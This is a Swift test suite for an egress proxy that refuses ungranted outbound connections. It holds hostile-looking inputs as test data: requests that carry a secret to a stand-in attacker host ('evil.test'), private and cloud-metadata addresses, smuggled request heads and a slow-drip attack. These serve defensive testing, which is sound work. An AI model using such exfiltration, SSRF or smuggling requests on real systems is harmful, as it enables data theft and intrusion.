import Egress
import NetworkRules
import Testing

@Suite(.timeLimit(.minutes(5))) struct RefusalTests {
    /// The name itself could carry something out.
    @Test func whatIsRefusedByNameIsNeverResolved() async throws {
        let resolver = ScriptedResolver([IPAddress(127, 0, 0, 1)])
        try await Stage.with(
            resolver: resolver,
            decision: { .refuse(reason: "\($0.target.host) is not granted. Ask with egress_request.") }
        ) { stage in
            let tunnel = try await stage.answer(
                to: "CONNECT s3cret.evil.test:443 HTTP/1.1\r\nHost: s3cret.evil.test:443\r\n\r\n")
            #expect(tunnel.hasPrefix("HTTP/1.1 403 s3cret.evil.test is not granted. Ask with egress_request.\r\n"))
            #expect(tunnel.hasSuffix("\r\n\r\nBulkhead: s3cret.evil.test is not granted. Ask with egress_request.\n"))
            let request = try await stage.answer(
                to: "GET http://evil.test/?key=s3cret HTTP/1.1\r\nHost: evil.test\r\n\r\n")
            #expect(request.hasPrefix("HTTP/1.1 403 "))
            #expect(resolver.asked == 0)
            let records = [try await stage.judge.next(), try await stage.judge.next()]
            #expect(records.map(\.asked) == ["s3cret.evil.test:443", "http://evil.test/"])
            #expect(records.allSatisfy { $0.refusal != nil && $0.rule == nil && $0.address == nil })
            #expect(stage.judge.asked[1].path == "/" && stage.judge.asked[1].method == "GET")
        }
    }

    @Test func anErrorOfTheAuthorityRefuses() async throws {
        let broken: Judge.Decision = { _ in throw Judge.Broken() }
        try await Stage.with(decision: broken) { stage in
            let answer = try await stage.answer(to: "CONNECT host.test:443 HTTP/1.1\r\nHost: host.test\r\n\r\n")
            #expect(answer.hasPrefix("HTTP/1.1 403 "))
            #expect(try await stage.judge.next().refusal?.contains("could not be decided") == true)
        }
    }

    @Test func anAuthorityThatNeverAnswersRefuses() async throws {
        var limits = EgressLimits()
        limits.decisionDeadline = .milliseconds(100)
        let never = { @Sendable (_: EgressRequest) async throws -> EgressVerdict in
            // Not to be cancelled either.
            await withCheckedContinuation { continuation in
                Task.detached {
                    try? await Task.sleep(for: .seconds(2))
                    continuation.resume()
                }
            }
            return Judge.allowed
        }
        try await Stage.with(limits: limits, decision: never) { stage in
            let answer = try await stage.answer(to: "CONNECT host.test:443 HTTP/1.1\r\nHost: host.test\r\n\r\n")
            #expect(answer.hasPrefix("HTTP/1.1 403 "))
            #expect(try await stage.judge.next().refusal?.contains("could not be decided") == true)
        }
    }

    /// One address that is not public is one too many, whichever the client would be given.
    @Test(arguments: [
        [IPAddress(127, 0, 0, 1)], [IPAddress(8, 8, 8, 8), IPAddress(10, 0, 0, 1)],
        [IPAddress(169, 254, 169, 254), IPAddress(1, 1, 1, 1)],
        [IPAddress("::ffff:8.8.8.8"), IPAddress("64:ff9b::808:808")].compactMap { $0 },
    ])
    func anAddressThatIsNotPublicRefuses(_ addresses: [IPAddress]) async throws {
        let resolver = ScriptedResolver(addresses)
        try await Stage.with(resolver: resolver) { stage in
            let answer = try await stage.answer(
                to: "CONNECT inside.example.org:443 HTTP/1.1\r\nHost: inside.example.org\r\n\r\n")
            #expect(answer.hasPrefix("HTTP/1.1 403 inside.example.org has the address "))
            let record = try await stage.judge.next()
            #expect(record.refusal?.contains("only public addresses") == true && record.address == nil)
            #expect(resolver.asked == 1)
        }
    }

    @Test func aNameWithoutAnAddressIsNotReached() async throws {
        try await Stage.with { stage in
            let answer = try await stage.answer(
                to: "CONNECT nowhere.example.org:443 HTTP/1.1\r\nHost: nowhere.example.org\r\n\r\n")
            #expect(answer.hasPrefix("HTTP/1.1 502 "))
            let record = try await stage.judge.next()
            #expect(record.refusal == nil && record.end?.contains("no address") == true)
        }
    }

    @Test func aHostThatTakesNoConnectionIsNotReached() async throws {
        try await Stage.with { stage in
            // Port 1 of loopback: nobody listens there.
            let answer = try await stage.answer(to: "GET http://host.test:1/ HTTP/1.1\r\nHost: host.test:1\r\n\r\n")
            #expect(answer.hasPrefix("HTTP/1.1 502 host.test:1 could not be connected to: connection refused."))
            #expect(try await stage.judge.next().end?.contains("connection refused") == true)
        }
    }

    @Test(arguments: HeadTests.smuggled.filter { $0.contains("\n") })
    func whatHasTwoReadingsIsRefusedWithoutAQuestion(_ request: String) async throws {
        let resolver = ScriptedResolver([IPAddress(127, 0, 0, 1)])
        try await Stage.with(resolver: resolver) { stage in
            let answer = try await stage.answer(to: request)
            #expect(
                ["HTTP/1.1 400 ", "HTTP/1.1 405 ", "HTTP/1.1 417 ", "HTTP/1.1 505 "].contains { answer.hasPrefix($0) },
                "\(answer)")
            #expect(try await stage.judge.next().refusal != nil)
            #expect(stage.judge.asked.isEmpty && resolver.asked == 0 && stage.judge.recorded.count == 1)
        }
    }

    @Test func userInformationIsInNoRecordAndNoAnswer() async throws {
        try await Stage.with { stage in
            let answer = try await stage.answer(
                to: "GET http://me:hunter2@host.test/ HTTP/1.1\r\nHost: host.test\r\n\r\n")
            #expect(answer.hasPrefix("HTTP/1.1 400 ") && !answer.contains("hunter2"))
            let record = try await stage.judge.next()
            #expect(!"\(record)".contains("hunter2") && record.asked == "…@host.test/")
        }
    }

    @Test func aHeadThatNeverEndsHasADeadline() async throws {
        var limits = EgressLimits()
        limits.headDeadline = .milliseconds(300)
        try await Stage.with(limits: limits) { stage in
            let client = try stage.connect()
            try await client.send("GET http://host.test/ HTTP/1.1\r\nX: ")
            // A byte now and then is no excuse.
            let drip = Task { while true { try await client.send("x"); try await Task.sleep(for: .milliseconds(20)) } }
            defer { drip.cancel() }
            #expect(try await client.receiveText().hasPrefix("HTTP/1.1 408 "))
            #expect(try await stage.judge.next().refusal?.contains("in time") == true)
        }
    }

    @Test func aHeadThatIsTooLongIsRefused() async throws {
        try await Stage.with { stage in
            let answer = try await stage.answer(
                to: "GET http://host.test/ HTTP/1.1\r\nX: \(String(repeating: "x", count: 40_000))")
            #expect(answer.hasPrefix("HTTP/1.1 431 "))
            #expect(try await stage.judge.next().refusal?.contains("longer") == true)
        }
    }

    @Test func whoSaysNothingAskedForNothing() async throws {
        try await Stage.with { stage in
            for _ in 0..<5 { try stage.connect().finish() }
            _ = try await stage.answer(to: "x\r\n\r\n")
            _ = try await stage.judge.next()
            #expect(stage.judge.recorded.count == 1)
        }
    }
}
